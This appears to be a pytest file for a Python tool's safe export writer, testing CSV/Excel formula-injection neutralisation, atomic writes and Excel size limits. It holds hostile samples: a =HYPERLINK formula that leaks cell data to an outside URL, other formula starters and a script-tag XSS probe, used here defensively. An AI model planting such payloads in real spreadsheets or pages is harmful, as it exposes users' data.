"""The safe writer (`ilcs.io.write`): no live formula in any export, files written whole or
not at all, and tables too long for Excel refused before anything is written.

Hostile values go through every export path (cohort and item statistics via `ilcs export`,
the SLA report via `ilcs sla report`, the candidate report, evidence and feedback packs) and
each file is read back the way a spreadsheet or a reader would see it.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import ilcs.io.write as write
from ilcs.cli import main
from ilcs.errors import ExportError
from ilcs.io.write import (
    EXCEL_MAX_ROWS,
    FORMULA_STARTS,
    atomic_file,
    check_fits_excel,
    column_letter,
    neutralise,
    write_csv,
    write_json,
    write_text,
    write_xlsx,
)

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://x?leak="&A1,"a")'
HOSTILE = (LINK, "+1+1", "@SUM(A1)", "-2+3", "\t=1+1", "\r=1+1")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


# --------------------------------------------------------------------------- read back


def xlsx_cells(path: Path) -> list[tuple[str, object, str]]:
    """(sheet, value, data_type) of every non-empty cell; fails if any cell is a formula,
    in openpyxl's reading or in the raw sheet XML."""
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as type 'f'
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"
                if cell.value is not None:
                    cells.append((sheet.title, cell.value, cell.data_type))
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                xml = package.read(name).decode("utf-8")
                assert not re.search(r"<f[ >/]", xml), f"{name} holds a formula element"
    return cells


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet would split it; fails if one would start a
    formula (a cell starting with = + - @ tab or CR that is not just a number)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for cell in cells:
        if cell[:1] in FORMULA_STARTS:
            assert PLAIN_NUMBER.fullmatch(cell), f"{path.name}: live formula {cell!r}"
    return cells


def assert_all_hostile_kept_as_text(texts: list[str], hostile: tuple[str, ...]) -> None:
    """Each hostile value is in the file (so the check above really saw it)."""
    for value in hostile:
        assert any(value in t for t in texts), f"{value!r} is missing from the export"


# --------------------------------------------------------------------------- unit rules


def test_neutralise_follows_the_owasp_rule_but_keeps_numbers():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    assert neutralise("-2") == "-2" and neutralise("+1.5") == "+1.5" and neutralise("-1e3") == "-1e3"
    assert neutralise("Payroll") == "Payroll" and neutralise("") == ""
    assert neutralise("-") == "'-" and neutralise("- 2") == "'- 2"


def test_column_letters():
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702, 16383)] == [
        "A", "Z", "AA", "AZ", "BA", "ZZ", "AAA", "XFD"]


def test_csv_neutralises_text_and_headers_but_not_numbers(tmp_path: Path):
    frame = pd.DataFrame({"text": [*HOSTILE, "-2", "fine"], "=bad header": range(8),
                          "number": [-2.5, -3, 0, 1, 2, 3, 4, 5]})
    path = write_csv(frame, tmp_path / "t.csv")
    cells = csv_cells(path)
    assert_all_hostile_kept_as_text(cells, tuple("'" + v for v in HOSTILE))
    back = pd.read_csv(path)
    assert list(back.columns) == ["text", "'=bad header", "number"]
    assert back["number"].tolist() == [-2.5, -3, 0, 1, 2, 3, 4, 5]  # numbers stay numbers
    assert "-2" in cells and "'-2" not in cells  # a text that is just a number is untouched
    raw = path.read_bytes()
    assert b'"\'\r=1+1"' in raw  # a CR inside a cell is quoted, never a line break


def test_xlsx_stores_text_as_text_numbers_as_numbers_dates_as_dates(tmp_path: Path):
    frame = pd.DataFrame({
        "text": [*HOSTILE, "a&b<c>", " spaced ", None],
        "number": [-2.5, -2, 0.1, 1e20, np.nan, 3, 4, 5, 6],
        "count": pd.array([1, 2, None, 4, 5, 6, 7, 8, 9], dtype="Int64"),
        "when": pd.to_datetime(["2025-04-03 09:15"] * 8 + [None]),
        "flag": [True, False] * 4 + [True],
    })
    path = write_xlsx({"Data": frame}, tmp_path / "t.xlsx")
    xlsx_cells(path)
    ws = openpyxl.load_workbook(path)["Data"]
    assert [c.value for c in ws[1]] == ["text", "number", "count", "when", "flag"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 10)] == [*HOSTILE, "a&b<c>",
                                                                      " spaced "]
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 10))
    assert ws["A10"].value is None and ws["B6"].value is None and ws["C4"].value is None
    assert [ws.cell(row=r, column=2).value for r in (2, 3, 4, 5)] == [-2.5, -2, 0.1, 1e20]
    assert ws["B2"].data_type == "n" and ws["C3"].value == 2
    assert ws["D2"].value == pd.Timestamp("2025-04-03 09:15").to_pydatetime()
    assert ws["D2"].number_format == "dd/mm/yyyy hh:mm"  # UK, day first
    assert ws["E2"].value is True and ws["E3"].value is False
    assert ws.freeze_panes == "A2"
    back = pd.read_excel(path)
    assert back["number"].iloc[0] == -2.5 and back["text"].iloc[3] == "-2+3"


def test_sheet_names_are_made_valid_and_distinct(tmp_path: Path):
    frame = pd.DataFrame({"a": [1]})
    path = write_xlsx({"x" * 40: frame, "a/b[c]": frame, "A/B[C]": frame}, tmp_path / "s.xlsx")
    assert openpyxl.load_workbook(path).sheetnames == ["x" * 31, "a_b_c_", "A_B_C_ (2)"]


# --------------------------------------------------------------------------- every export path


def _hostile_sla_files(folder: Path) -> tuple[Path, Path]:
    team = LINK
    rows = []
    for i in range(12):
        department = HOSTILE[i % len(HOSTILE)]
        received = f"0{1 + i % 5}/04/2025 09:{10 + i:02d}"
        answered = "" if i % 3 == 0 else f"0{1 + i % 5}/04/2025 16:{10 + i:02d}"
        rows.append({"request_id": f"-{i}+3", "requester_department": department,
                     "provider_team": team, "channel": "portal", "category": "@SUM(B2)",
                     "priority": "P3", "received_at": received,
                     "first_response_at": answered, "resolved_at": answered,
                     "reopened": 0, "contacts": 1, "on_hold_from": "", "on_hold_until": ""})
    requests = folder / "requests.csv"
    pd.DataFrame(rows).to_csv(requests, index=False, quoting=csv.QUOTE_ALL)  # CR kept in quotes
    standards = folder / "standards.csv"
    pd.DataFrame([{"standard_id": "@SUM(A1)", "provider_team": team,
                   "description": "+1+1 we reply within 2 working hours",
                   "measure": "first_response", "priority": "", "target": 2,
                   "unit": "working_hours", "nation": "england-and-wales", "opens": "09:00",
                   "closes": "17:00", "lunch": ""}]).to_csv(standards, index=False)
    return requests, standards


def test_sla_report_xlsx_and_csv_hold_no_formula(tmp_path: Path, capsys):
    requests, standards = _hostile_sla_files(tmp_path)
    out = tmp_path / "sla.xlsx"
    assert main(["sla", "report", str(requests), "--standards", str(standards),
                 "--out", str(out)]) == 0
    cells = xlsx_cells(out)
    texts = [str(v) for _, v, _ in cells]
    # the loader strips spaces, tabs and CRs around a value: "\t=1+1" arrives as "=1+1"
    assert_all_hostile_kept_as_text(texts, (LINK, "+1+1", "@SUM(A1)", "-2+3", "=1+1"))
    assert {s for s, _, _ in cells} == {"standards", "compliance", "by_team_month", "backlog",
                                         "breaches"}
    assert main(["sla", "report", str(requests), "--standards", str(standards),
                 "--out", str(tmp_path / "sla.csv")]) == 0
    written = sorted(tmp_path.glob("sla*.csv"))
    assert len(written) == 5
    every = [cell for path in written for cell in csv_cells(path)]
    assert_all_hostile_kept_as_text(every, ("'" + LINK, "'+1+1", "'@SUM(A1)", "'-2+3",
                                            "'-0+3", "'=1+1"))


def _assessor_store(tmp_path: Path) -> tuple[str, str]:
    """A store with hostile candidates who answered an assessed single-choice question with
    hostile text (so it shows up among the most common wrong answers)."""
    from ilcs.assessment.questions import load_bank
    from ilcs.assessment.store import AnswerStore

    bank = load_bank()
    question = next(q for q in bank.questions
                    if q.mode == "assessed" and q.type == "single_choice")
    url = f"sqlite:///{tmp_path / 'answers.sqlite'}"
    with AnswerStore.open(url) as store:
        for i, value in enumerate(HOSTILE):
            cid = f"c{i}"
            store.save_candidate(cid, name=value, centre=value, assessor=value,
                                 candidate_number=f"N{i}")
            store.save_answer(cid, question.id, LINK if i % 2 else "+1+1", "assessed",
                              bank.version)
    return url, question.id


def test_cohort_and_item_statistics_exports_hold_no_formula(tmp_path: Path, capsys):
    url, question_id = _assessor_store(tmp_path)
    assert main(["mark", "--database", url]) == 0
    outs = [tmp_path / "cohort.csv", tmp_path / "cohort.xlsx"]
    assert main(["export", "--database", url, *[f"--out={p}" for p in outs]]) == 0
    xlsx = [str(v) for _, v, _ in xlsx_cells(outs[1])]
    assert_all_hostile_kept_as_text(xlsx, HOSTILE)
    cells = csv_cells(outs[0])
    assert_all_hostile_kept_as_text(cells, tuple("'" + v for v in HOSTILE))
    items = [tmp_path / "items.csv", tmp_path / "items.xlsx"]
    assert main(["export", "--items", "--database", url, *[f"--out={p}" for p in items]]) == 0
    wrong = f"+1+1 ×3; {LINK} ×3"  # the most common wrong answers, as given
    assert wrong in [v for _, v, _ in xlsx_cells(items[1])]
    assert "'" + wrong in csv_cells(items[0])


def test_candidate_report_escapes_hostile_text(tmp_path: Path):
    from ilcs.assessment.reports import CandidateRecord, write_candidate_report

    record = CandidateRecord("c1", "<script>alert(1)</script>" + LINK, "@SUM(A1)", "-2+3",
                             "A/601/2550", "unit", (), ())
    path = write_candidate_report(record, tmp_path / "report.html")
    page = path.read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert "=HYPERLINK(" in page  # shown as text on the page


def test_packs_keep_hostile_answers_exactly(tmp_path: Path, ilcs_home: Path):
    """Packs are data, not spreadsheets: hostile text goes in and comes out unchanged."""
    from ilcs.assessment.packs import read_pack, write_pack
    from ilcs.assessment.profile import save_profile
    from ilcs.assessment.questions import load_bank
    from ilcs.assessment.store import AnswerStore

    bank = load_bank()
    question = next(q for q in bank.questions if q.type == "written")
    with AnswerStore.open() as store:
        profile = save_profile("Asha Patel", "A-1", "North", store=store)
        for value in HOSTILE:
            store.save_answer(profile.candidate_id, question.id, value, question.mode,
                              bank.version)
        path, _ = write_pack(tmp_path / "p.ilcs-pack.json", store=store)
    assert [a["response"] for a in read_pack(path).answers] == list(HOSTILE)


# --------------------------------------------------------------------------- whole or nothing


class Explodes:
    """A cell value whose text cannot be made: the writer fails on it, mid-way."""

    seen_partial: list[int] = []

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __str__(self) -> str:
        Explodes.seen_partial.append(sum(p.stat().st_size for p in self.folder.glob(".*.part")))
        raise RuntimeError("the machine stopped here")


def _no_part_files(folder: Path) -> bool:
    return not list(folder.glob(".*.part"))


def test_csv_failing_midway_leaves_the_previous_file(tmp_path: Path):
    path = write_csv(pd.DataFrame({"v": ["old"]}), tmp_path / "t.csv")
    before = path.read_bytes()
    values: list[object] = ["row"] * 150_000
    values[140_000] = Explodes(tmp_path)  # pandas writes 100,000 rows before reaching it
    Explodes.seen_partial.clear()
    with pytest.raises(RuntimeError, match="stopped here"):
        write_csv(pd.DataFrame({"v": values}), path)
    assert Explodes.seen_partial and Explodes.seen_partial[0] > 0  # really mid-way
    assert path.read_bytes() == before and _no_part_files(tmp_path)


def test_xlsx_failing_midway_leaves_the_previous_file(tmp_path: Path, monkeypatch):
    path = write_xlsx({"S": pd.DataFrame({"v": ["old"]})}, tmp_path / "t.xlsx")
    before = path.read_bytes()
    monkeypatch.setattr(write, "_CHUNK_ROWS", 10)
    values: list[object] = [1] * 100
    values[95] = Explodes(tmp_path)
    Explodes.seen_partial.clear()
    with pytest.raises(RuntimeError, match="stopped here"):
        write_xlsx({"S": pd.DataFrame({"v": values})}, path)
    assert Explodes.seen_partial and Explodes.seen_partial[0] > 0
    assert path.read_bytes() == before and _no_part_files(tmp_path)


def test_failing_disk_leaves_the_previous_pack_and_says_so(tmp_path: Path, monkeypatch):
    path = write_json(tmp_path / "p.ilcs-pack.json", {"v": "old"})
    before = path.read_bytes()

    def full(_fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(write.os, "fsync", full)
    with pytest.raises(ExportError) as caught:
        write_json(path, {"v": "new " * 1000})
    assert str(caught.value) == (f"{path}: cannot be written (No space left on device); "
                                 "the previous file is unchanged")
    assert path.read_bytes() == before and _no_part_files(tmp_path)


def test_atomic_file_replaces_only_on_success(tmp_path: Path):
    path = write_text(tmp_path / "r.html", "old")
    with pytest.raises(KeyError), atomic_file(path) as handle:
        handle.write(b"half a rep")
        raise KeyError("stop")
    assert path.read_text() == "old" and _no_part_files(tmp_path)
    with atomic_file(path) as handle:
        handle.write(b"new")
    assert path.read_text() == "new" and _no_part_files(tmp_path)


# --------------------------------------------------------------------------- Excel's limits


def test_too_many_rows_for_excel_are_refused_before_writing(tmp_path: Path):
    path = tmp_path / "big.xlsx"
    path.write_bytes(b"previous")
    frame = pd.DataFrame({"n": np.zeros(EXCEL_MAX_ROWS, dtype=np.int8)})
    with pytest.raises(ExportError) as caught:
        write_xlsx({"small": frame.head(3), "breaches": frame}, path)
    assert str(caught.value) == (
        "big.xlsx: sheet 'breaches' would have 1,048,577 rows (with its header), more than "
        "the 1,048,576 an Excel sheet can hold; nothing was written. Write it as CSV instead "
        "(e.g. big.csv).")
    assert path.read_bytes() == b"previous" and _no_part_files(tmp_path)
    check_fits_excel({"fits": frame.iloc[1:]}, path)  # 1,048,575 rows + header: fits


def test_a_cell_longer_than_excel_holds_is_refused_naming_row_and_column(tmp_path: Path):
    frame = pd.DataFrame({"id": ["a", "b"], "answer": ["short", "x" * 32_768]})
    with pytest.raises(ExportError) as caught:
        write_xlsx({"Cohort": frame}, tmp_path / "c.xlsx")
    assert str(caught.value) == (
        "c.xlsx, sheet 'Cohort', row 3, column 'answer': a text of 32,768 characters is longer "
        "than the 32,767 an Excel cell can hold; nothing was written. Write it as CSV instead "
        "(e.g. c.csv).")
    assert not (tmp_path / "c.xlsx").exists()


def test_sla_report_too_long_for_excel_exits_2_and_writes_nothing(tmp_path: Path, capsys,
                                                                  monkeypatch):
    requests, standards = _hostile_sla_files(tmp_path)
    monkeypatch.setattr(write, "EXCEL_MAX_ROWS", 4)  # a small stand-in for 1,048,576
    out = tmp_path / "sla.xlsx"
    assert main(["sla", "report", str(requests), "--standards", str(standards),
                 "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "an Excel sheet can hold; nothing was written. Write it as CSV instead" in err
    assert "Traceback" not in err and not out.exists() and _no_part_files(tmp_path)


# --------------------------------------------------------------------------- one writer


DIRECT_WRITES = re.compile(
    r"\.to_csv\(|\.to_excel\(|ExcelWriter|xlsxwriter|\.write_text\(|\.write_bytes\(|"
    r"shutil\.copy|open\([^)]*[\"'][wax]b?\+?[\"']")
ALLOWED = {
    "ilcs/present.py": "the Voila server's live log, appended while it runs",
    "ilcs/trainee_copy.py": "copies a folder tree into a new folder",
    "ilcs/course.py": "copies the course's own files into a new folder",
}


def test_every_file_ilcs_writes_goes_through_the_safe_writer():
    offenders = []
    for path in sorted((ROOT / "ilcs").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel == "ilcs/io/write.py" or rel in ALLOWED:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if DIRECT_WRITES.search(line):
                offenders.append(f"{rel}:{number}: {line.strip()}")
    assert not offenders, "write through ilcs.io.write instead:\n" + "\n".join(offenders)


def test_json_is_written_readably(tmp_path: Path):
    path = write_json(tmp_path / "f.json", {"name": "Siân", "n": [1, 2]})
    assert json.loads(path.read_text(encoding="utf-8")) == {"name": "Siân", "n": [1, 2]}
    assert "Siân" in path.read_text(encoding="utf-8")


# ------------------------------------------------------ the later topics' exports


def _hostile_table() -> pd.DataFrame:
    return pd.DataFrame({"team": list(HOSTILE), "count": range(len(HOSTILE)),
                         "share": [-2.5, 0.1, 1.0, 2.0, 3.0, 4.0]})


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_complaints_and_survey_exports_hold_no_formula(tmp_path: Path, suffix: str):
    from ilcs.commands.complaints import write_tables
    from ilcs.commands.survey import write_summary

    written = [*write_tables({"teams": _hostile_table(), "stages": _hostile_table()},
                             tmp_path / f"complaints{suffix}"),
               *write_summary({"scores": _hostile_table(), "changes": _hostile_table()},
                              tmp_path / f"survey{suffix}")]
    assert len(written) == (2 if suffix == ".xlsx" else 4)
    for path in written:
        if suffix == ".xlsx":
            assert_all_hostile_kept_as_text([str(v) for _, v, _ in xlsx_cells(path)], HOSTILE)
        else:
            assert_all_hostile_kept_as_text(csv_cells(path), tuple("'" + v for v in HOSTILE))


def test_saved_self_assessment_ratings_hold_no_formula(tmp_path: Path):
    from ilcs.services import practices as pr

    ratings = pr.ratings_frame("=HYPERLINK(\"http://x?leak=\"&A1,\"a\")",
                               [{n: 3 for n in range(1, 19)}] * 5)
    path, _digest = pr.save_ratings(ratings, tmp_path / "ratings.csv")
    cells = csv_cells(path)
    assert "'" + LINK in cells
